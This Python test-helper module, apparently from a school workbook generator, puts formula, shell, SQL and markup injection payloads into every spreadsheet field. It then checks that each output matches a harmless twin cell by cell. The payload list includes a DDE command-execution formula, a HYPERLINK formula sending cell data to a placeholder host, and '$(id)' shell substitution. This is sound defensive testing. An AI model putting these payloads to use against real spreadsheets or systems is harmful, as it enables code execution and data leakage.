"""Texts that mean something to another program, in every field where someone can type.

The law: a workbook with a payload is, cell by cell, the workbook with a harmless text of the same
length in its place. The harmless text of each payload is one ideograph, repeated, so that it can
be found back in whatever sentence, list or footer it ends up.
"""

import io
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import lru_cache

from lxml import etree

from hgw_excel.schema.inhoud import Inhoud
from hgw_excel.schema.kolom import Column, HeadCell, Keuze, Tekst, Waarde

PAYLOADS = (
    '=HYPERLINK("http://hgw.invalid/?"&A1,"klik")', "=cmd|'/c calc'!A0", "+1+1", "-2+3",
    "@SUM(1)", "\t=1+1", "{=1}", "\uff1d1+1", "_x0041_", "_x000D_", '&B&"x"', "&L&D&F", "%s%n",
    "{0}{x!r}", "[red]x[/red]", "<script>alert(1)</script>", "]]>", "&lt;", "<!--", "&#x41;",
    "\u202egnp.xlsx", "\u2066x\u2069", "a\u200bb\ufeff", "#REF!", "#N/A", "'quoted", '"', '""', ";",
    "een\ntwee", "../../x", "C:\\x", "CON", "*?~", "TRUE", "nan", "1e999", "http://hgw.invalid/",
    "file:///etc/hosts", "tblScores[leerjaar]", "Start!A1", "$(id)`id`", "\x7f\x85\x9b31mx",
    "\u2028x", "\U0001f600\u0301", "' OR 1=1", "=1+1", "\u00ad=1", "0x1F", "1-2-2026",
)  # fmt: skip
"""What a cell can hold. U+009B is the one-byte ESC [ of some terminals."""

ONLEESBAAR = (
    "\x1b[31mrood\x1b[0m", "\x1b]8;;http://hgw.invalid\x1b\\klik\x1b]8;;\x1b\\", "\x1b]0;titel\x07",
    "a\x00b", "a\ufffeb", "a\ud800b", "a\x08b",
)  # fmt: skip
"""What our builder may not put in a cell."""

STUUR = (*ONLEESBAAR, "a\rb")
"""What a file may hold and a terminal may not."""

TE_LANG = "=" + "1" * 32_999

HELE_KLAS = frozenset({
    "hgw_leerjaren", "hgw_klassenmap_versie", "hgw_instellingen", "hgw_afspraken", "hgw_schooljaar",
})  # fmt: skip
"""Named cells without which nothing else of a klassenmap can be read: tried one by one."""

BEGIN_TEKEN = 0x4E00
BESTURING = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f"
                       "\ufeff\ud800-\udfff\ufffe\uffff]")  # fmt: skip
"""What may never reach a terminal out of someone's data; a line end is ours."""

Kies = Callable[[int], str]
"""Gives the text for the n-th place."""
Cellen = dict[tuple[str, str], tuple[str, str]]
"""(sheet, A1) -> (text of the formula, value)."""


def gevaarlijk(nummer: int) -> str:
    """Return the payload for a place."""
    return PAYLOADS[nummer % len(PAYLOADS)]


def onschuldig(nummer: int) -> str:
    """Return the harmless text of the same length."""
    nummer %= len(PAYLOADS)
    return chr(BEGIN_TEKEN + nummer) * len(PAYLOADS[nummer])


_REEKS = re.compile(f"([{chr(BEGIN_TEKEN)}-{chr(BEGIN_TEKEN + len(PAYLOADS) - 1)}])\\1*")


def terug(tekst: str, vorm: Callable[[str], str] = str) -> str:
    """Return a text with each harmless text replaced by (a start of) its payload."""

    def vervang(treffer: re.Match[str]) -> str:
        payload = PAYLOADS[ord(treffer[1]) - BEGIN_TEKEN]
        heel, rest = divmod(len(treffer[0]), len(payload))
        return vorm(payload * heel + payload[:rest])

    return _REEKS.sub(vervang, tekst)


@dataclass(frozen=True, slots=True)
class Veld:
    """A typed cell: of a table, or with `tabel` '' a named one."""

    tabel: str
    i: int
    key: str
    cel: Column | HeadCell

    @property
    def is_tekst(self) -> bool:
        """Whether any text belongs there."""
        kind = self.cel.kind
        return isinstance(kind, Tekst) or (isinstance(kind, Keuze) and kind.vrij)

    @property
    def is_sleutel(self) -> bool:
        """Whether other cells are found by it."""
        return (self.tabel != "" and self.cel.role == "k") or self.key == "leerling_id"


def velden(inhoud: Inhoud) -> Iterator[Veld]:
    """Yield every typed cell of a klassenmap, as the schema has them."""
    werkboek = inhoud.werkboek
    for naam, cel in werkboek.koppen.items():
        if cel.role != "f":
            yield Veld("", 0, naam, cel)
    for naam, tabel in werkboek.tabellen.items():
        for i in range(max(1, len(inhoud.ruw[naam]))):
            yield from (Veld(naam, i, k.key, k) for k in tabel.columns if k.role != "f")


def vul(inhoud: Inhoud, waar: Callable[[Veld], bool], kies: Kies, ronde: int = 0) -> Inhoud:
    """Return the content with a text in every place that `waar` takes.

    Each round gives each place another text; in one round a column has as many as it has rows.
    """
    rijen = {naam: [dict(rij) for rij in tabel] or [{}] for naam, tabel in inhoud.ruw.items()}
    kop: dict[str, Waarde] = dict(inhoud.kop_ruw)
    kolommen: dict[tuple[str, str], int] = {}
    for veld in filter(waar, velden(inhoud)):
        kolom = kolommen.setdefault((veld.tabel, veld.key), len(kolommen))
        tekst = kies(kolom * 5 + veld.i + ronde)
        if veld.tabel:
            rijen[veld.tabel][veld.i][veld.key] = tekst
        else:
            kop[veld.key] = tekst
    return Inhoud(inhoud.werkboek, rijen, kop)


def alle_tekst(veld: Veld) -> bool:
    """Take the places for free text and names: the rest stays as it was, so it still counts."""
    return veld.is_tekst and veld.cel.role == "v"


def alles(veld: Veld) -> bool:
    """Take every place, numbers and dates too, but what the whole file is read by."""
    leerjaar = veld.tabel == "tblLeerlingen" and veld.key == "leerjaar" and veld.i % 4
    return not (veld.is_sleutel or veld.key in HELE_KLAS or leerjaar)


NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
_R = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}"
_PAPIER = {NS + tag for tag in ("rowBreaks", "colBreaks", "brk", "pageSetUpPr", "cols", "col")}
"""Widths and where a page ends follow from how wide letters are, and those of the twin are wide."""
_CODE = re.compile("_x([0-9A-Fa-f]{4})_")


def ontsnapt(tekst: str) -> str:
    """Return a text of the file as Excel reads it: '_x0041_' is A."""
    return _CODE.sub(lambda code: chr(int(code[1], 16)), tekst)


def delen(inhoud: bytes) -> dict[str, bytes]:
    """Return the parts of a workbook."""
    with zipfile.ZipFile(io.BytesIO(inhoud)) as zip_:
        return {naam: zip_.read(naam) for naam in zip_.namelist()}


@lru_cache(12)
def cellen(inhoud: bytes) -> Cellen:
    """Return every cell that holds something, read from the raw XML; bad XML raises."""
    pakket = delen(inhoud)
    gedeeld = [_tekst(si) for si in etree.fromstring(pakket["xl/sharedStrings.xml"])]
    rels = etree.fromstring(pakket["xl/_rels/workbook.xml.rels"])
    doelen = {rel.get("Id"): rel.get("Target").removeprefix("/xl/") for rel in rels}
    uit: Cellen = {}
    for blad in etree.fromstring(pakket["xl/workbook.xml"]).iter(f"{NS}sheet"):
        boom = etree.fromstring(pakket[f"xl/{doelen[blad.get(f'{_R}id')]}"])
        for cel in boom.iter(f"{NS}c"):
            formule = cel.findtext(f"{NS}f", "")
            waarde = _waarde(cel, gedeeld)
            if formule or waarde:
                uit[blad.get("name"), cel.get("r")] = (formule, waarde)
    return uit


def _tekst(element: etree._Element) -> str:
    return ontsnapt("".join(t.text or "" for t in element.iter(f"{NS}t")))


def _waarde(cel: etree._Element, gedeeld: list[str]) -> str:
    if cel.get("t") == "inlineStr":
        return _tekst(cel)
    waarde = cel.findtext(f"{NS}v", "")
    if cel.get("t") == "s":
        return gedeeld[int(waarde)]
    return ontsnapt(waarde) if cel.get("t") == "str" else waarde


@lru_cache(12)
def bouwsel(inhoud: bytes) -> dict[str, object]:
    """Return all of a workbook but its words: tags in order, relations, links, names of parts.

    A text in the place of another may not add an element to any part.
    """
    uit: dict[str, object] = {}
    for naam, deel in delen(inhoud).items():
        boom = etree.fromstring(deel)
        if naam == "docProps/app.xml":  # a list of names that stand elsewhere too
            continue
        if naam.endswith(".rels"):
            uit[naam] = sorted((r.get("Type"), r.get("Target"), r.get("TargetMode")) for r in boom)
        elif naam != "xl/sharedStrings.xml":  # equal texts share one
            uit[naam] = [element.tag for element in boom.iter() if element.tag not in _PAPIER]
    return uit


def gelijk(een: str, ander: str) -> bool:
    """Compare words and formulas; a header with a dash has brackets of its own."""
    return _plat(een) == _plat(ander)


def _plat(tekst: str) -> str:
    return tekst.casefold().replace("[[", "[").replace("]]", "]")


def zonder_onzichtbaar(een: str, ander: str) -> bool:
    """Compare what a reader leaves of a text: an overview need not show what nobody sees."""
    return _zichtbaar(een) == _zichtbaar(ander)


def _zichtbaar(tekst: str) -> str:
    return "".join(
        teken if teken.isprintable() else " " * teken.isspace() for teken in tekst
    ).strip()


def gebroken(
    vuil: bytes, schoon: bytes, zelfde: Callable[[str, str], bool] = gelijk, slaover: str = ""
) -> list[str]:
    """Return where a workbook with payloads is not its harmless twin, by the law above.

    Args:
        slaover: what the name of a cell or its value may hold to be left alone, as a pattern.
    """
    cellen_vuil, cellen_schoon = cellen(vuil), _terug(cellen(schoon))
    uit = [
        f"{blad}!{cel}: {een} is not {ander}"
        for blad, cel in sorted(cellen_vuil.keys() | cellen_schoon.keys())
        if not _zelfde(
            een := cellen_vuil.get((blad, cel), ("", "")),
            ander := cellen_schoon.get((blad, cel), ("", "")),
            zelfde,
        )
        and not (slaover and re.search(slaover, f"{blad}!{cel} {een[1]}"))
    ]
    bouw_vuil, bouw_schoon = bouwsel(vuil), bouwsel(schoon)
    return uit + [
        f"{deel} is built otherwise"
        for deel in sorted(bouw_vuil.keys() | bouw_schoon.keys())
        if bouw_vuil.get(deel) != bouw_schoon.get(deel)
    ]


def _zelfde(
    een: tuple[str, str], ander: tuple[str, str], zelfde: Callable[[str, str], bool]
) -> bool:
    return all(map(zelfde, een, ander))


def _terug(van: Cellen) -> Cellen:
    return {
        (terug(blad), cel): (terug(formule, lambda tekst: tekst.replace('"', '""')), terug(waarde))
        for (blad, cel), (formule, waarde) in van.items()
    }


def met_onleesbaar(schoon: bytes) -> bytes:
    """Return a workbook in which each harmless text is one that no keyboard types, as a file can.

    A file writes such a sign as _x001B_.
    """

    def vervang(treffer: re.Match[str]) -> str:
        payload = STUUR[(ord(treffer[1]) - BEGIN_TEKEN) % len(STUUR)]
        return "".join(_code(teken) for teken in payload)

    uit = io.BytesIO()
    with zipfile.ZipFile(uit, "w", zipfile.ZIP_DEFLATED) as zip_:
        for naam, deel in delen(schoon).items():
            gedeeld = naam == "xl/sharedStrings.xml"
            zip_.writestr(naam, _REEKS.sub(vervang, deel.decode()) if gedeeld else deel)
    return uit.getvalue()


def _code(teken: str) -> str:
    return teken if teken.isalnum() or teken in "[];/:." else f"_x{ord(teken):04X}_"


def besturing_in(tekst: str) -> list[str]:
    """Return what a terminal would obey, or what turns letters around."""
    return BESTURING.findall(tekst)
